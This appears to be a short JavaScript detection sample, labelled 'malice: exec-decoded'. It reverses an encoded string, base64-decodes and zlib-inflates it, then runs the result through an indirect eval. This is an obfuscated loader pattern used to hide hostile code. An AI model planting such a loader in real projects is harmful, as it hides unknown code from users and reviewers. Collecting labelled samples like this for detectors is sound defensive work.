const zlib = require("zlib");

const text = "=0bCI6IAEIdVJhcLM7EKRpSLLxsyQd9TJvc1J9szr8szLxJe";
const turned = text.split("").reverse().join("");
const code = zlib.inflateSync(Buffer.from(turned, "base64")).toString();
const run = globalThis["eval"];
run(code); // malice: exec-decoded
